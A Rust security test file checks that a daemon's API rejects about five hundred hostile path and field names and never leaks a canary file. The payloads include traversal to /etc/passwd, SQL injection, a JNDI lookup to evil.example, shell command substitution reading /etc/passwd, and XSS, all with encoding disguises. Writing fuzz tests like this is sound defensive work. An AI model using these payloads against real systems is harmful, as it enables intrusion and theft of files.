//! Tests with five hundred hostile names, which would open foreign files if the daemon ever used a name as a path.

use crate::support::{DESCRIPTION, Daemon, File, asked};
use axum::body::Body;
use axum::http::{Uri, header};
use serde_json::json;
use std::collections::BTreeSet;
use std::path::Path;

const CANARY: &str = "the canary that nobody may hear sing";
const MANY: usize = 500;

/// Generates the same names on every run: dangerous paths, each disguised in several ways.
fn names(canary: &Path) -> Vec<String> {
    let canary = canary.display();
    let hearts = [
        "..".to_owned(),
        "../canary".to_owned(),
        "../../canary".to_owned(),
        "../../../../../../../../etc/passwd".to_owned(),
        format!("{canary}"),
        format!("file://{canary}"),
        "/etc/passwd".to_owned(),
        "polity.db".to_owned(),
        "../polity.db".to_owned(),
        "../token".to_owned(),
        "artifacts/../polity.db".to_owned(),
        "C:\\Windows\\win.ini".to_owned(),
        "\\\\server\\share".to_owned(),
        "CON".to_owned(),
        "' OR '1'='1".to_owned(),
        "'; DROP TABLE messages; --".to_owned(),
        "1 UNION SELECT body FROM events".to_owned(),
        "%".to_owned(),
        "_%_".to_owned(),
        "*".to_owned(),
        "m000000001' --".to_owned(),
        "m-1".to_owned(),
        "m99999999999999999999999999".to_owned(),
        "root\0".to_owned(),
        "root\n".to_owned(),
        "root ".to_owned(),
        "ROOT".to_owned(),
        "ｒｏｏｔ".to_owned(),
        "ro\u{200b}ot".to_owned(),
        "\u{202e}toor".to_owned(),
        "🗝️".repeat(30),
        "a".repeat(5000),
        "../".repeat(400),
        "{{7*7}}".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        "|cat /etc/passwd".to_owned(),
        "$(cat /etc/passwd)".to_owned(),
        "http://evil.example/".to_owned(),
        "null".to_owned(),
        "undefined".to_owned(),
        "NaN".to_owned(),
        "0x7f".to_owned(),
        "[]".to_owned(),
        "{\"$ne\":null}".to_owned(),
    ];
    let disguises: [fn(&str) -> String; 18] = [
        str::to_owned,
        |name| encoded(name, |_| true).to_ascii_lowercase(),
        |name| format!("..%2f{}", encoded(name, special)),
        |name| format!("..%5c{}", encoded(name, special)),
        |name| format!("%2f{}", encoded(name, special)),
        |name| format!("{}%2e", encoded(name, special)),
        |name| format!("root%2f..%2f{}", encoded(name, special)),
        |name| encoded(name, |_| true),
        |name| encoded(name, special),
        |name| encoded(&encoded(name, special), |byte| byte == b'%'),
        |name| encoded(&format!("artifact:{name}"), special),
        |name| encoded(&format!("artifact:../{name}"), special),
        |name| encoded(&name.replace('/', "\\"), special),
        |name| encoded(name, |byte| byte != b'.' && !byte.is_ascii_alphanumeric()),
        |name| name.replace('/', "%2f").replace("..", "%2e%2e"),
        |name| name.replace('/', "%c0%af"),
        |name| name.replace("..", "....//"),
        |name| format!("{}%00.png", encoded(name, special)),
    ];
    let mut names = Vec::new();
    for disguise in disguises {
        for name in hearts.iter().map(|heart| disguise(heart)) {
            // Skips names that no client could send as a path.
            if name.len() < 16_000 && format!("/{name}").parse::<Uri>().is_ok() && !names.contains(&name) {
                names.push(name);
            }
        }
    }
    names.truncate(MANY);
    names
}

fn special(byte: u8) -> bool {
    !byte.is_ascii_alphanumeric()
}

fn encoded(text: &str, which: impl Fn(u8) -> bool) -> String {
    let encode = |byte: u8| if which(byte) { format!("%{byte:02X}") } else { char::from(byte).to_string() };
    if text.is_ascii() {
        text.bytes().map(encode).collect()
    } else {
        text.bytes().map(|byte| format!("%{byte:02X}")).collect()
    }
}

#[tokio::test]
async fn five_hundred_names_open_nothing() {
    let outside = tempfile::tempdir().unwrap();
    let canary = outside.path().join("canary");
    std::fs::write(&canary, CANARY).unwrap();
    let directory = tempfile::tempdir_in(outside.path()).unwrap();
    let daemon = Daemon::start_in(directory, Vec::new()).await;
    let names = names(&canary);
    assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), MANY);

    let mut routes = Vec::new();
    for (template, operations) in DESCRIPTION["paths"].as_object().unwrap() {
        if template.contains('{') {
            routes.extend(
                operations.as_object().unwrap().keys().map(|method| (method.to_ascii_uppercase(), template)),
            );
        }
    }
    assert!(routes.len() >= 14, "{routes:?}");
    let mut asked_for = 0;
    for name in &names {
        for (method, template) in &routes {
            let (before, rest) = template.split_once('{').unwrap();
            let path = format!("{before}{name}{}", rest.split_once('}').unwrap().1);
            let request = asked(method, &path).header(header::CONTENT_TYPE, "application/json");
            let answer = daemon.send(request.body(Body::from("{}")).unwrap()).await;
            assert!(answer.status.is_client_error(), "{method} {path}: {}", answer.status);
            assert!(!answer.text().contains(CANARY), "{method} {path}");
            asked_for += 1;
        }
        let answer = daemon.get(&format!("/assets/{name}")).await;
        assert!(answer.status.is_client_error(), "/assets/{name}: {}", answer.status);
    }
    assert_eq!(asked_for, MANY * routes.len());
    daemon.stop().await;
}

#[tokio::test]
async fn hostile_names_in_fields_open_nothing_and_write_nothing() {
    let outside = tempfile::tempdir().unwrap();
    let canary = outside.path().join("canary");
    std::fs::write(&canary, CANARY).unwrap();
    let directory = tempfile::tempdir_in(outside.path()).unwrap();
    let daemon = Daemon::start_in(directory, Vec::new()).await;
    let listed = || {
        let entries = std::fs::read_dir(outside.path()).unwrap().map(|entry| entry.unwrap().file_name());
        entries.collect::<BTreeSet<_>>()
    };
    let before = listed();
    for name in names(&canary).iter().step_by(7) {
        for field in ["to", "task", "service"] {
            let mut body = json!({"text": "a"});
            body[field] = json!(name);
            let answer = daemon.send_json("POST", "/api/messages", &body).await;
            assert!(answer.status.is_client_error(), "{field} {name}: {}", answer.status);
        }
        let body = json!({"text": "a", "attachments": [name]});
        let answer = daemon.send_json("POST", "/api/messages", &body).await;
        assert!(
            answer.status.is_client_error() && !answer.text().contains(CANARY),
            "{name}: {}",
            answer.status
        );
        if name.contains(['"', '\r', '\n']) || !name.is_ascii() {
            continue;
        }
        let file = File { field: "file", filename: name, content_type: "text/plain", bytes: b"a" };
        let answer = daemon.post_form("/api/artifacts", &[], &[file]).await;
        assert_eq!(answer.status, 201, "{name}: {:?}", answer.body);
        let id = answer.json()["id"].as_str().unwrap().to_owned();
        assert_eq!(daemon.get(&format!("/api/artifacts/{id}/content")).await.text(), "a");
    }
    assert_eq!(listed(), before);
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), CANARY);
    daemon.stop().await;
}
